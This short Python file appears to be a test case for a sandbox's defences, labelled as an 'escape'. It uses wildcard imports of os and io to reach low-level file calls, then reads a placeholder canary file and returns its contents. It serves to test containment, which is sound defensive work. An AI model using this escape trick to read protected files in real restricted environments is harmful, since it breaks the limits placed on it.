# desc: everything of a module at once
# class: escape
# wins: told
from io import *
from os import *

def attack(state):
    return "L2:" + fdopen(open("@CANARY@", O_RDONLY)).read()
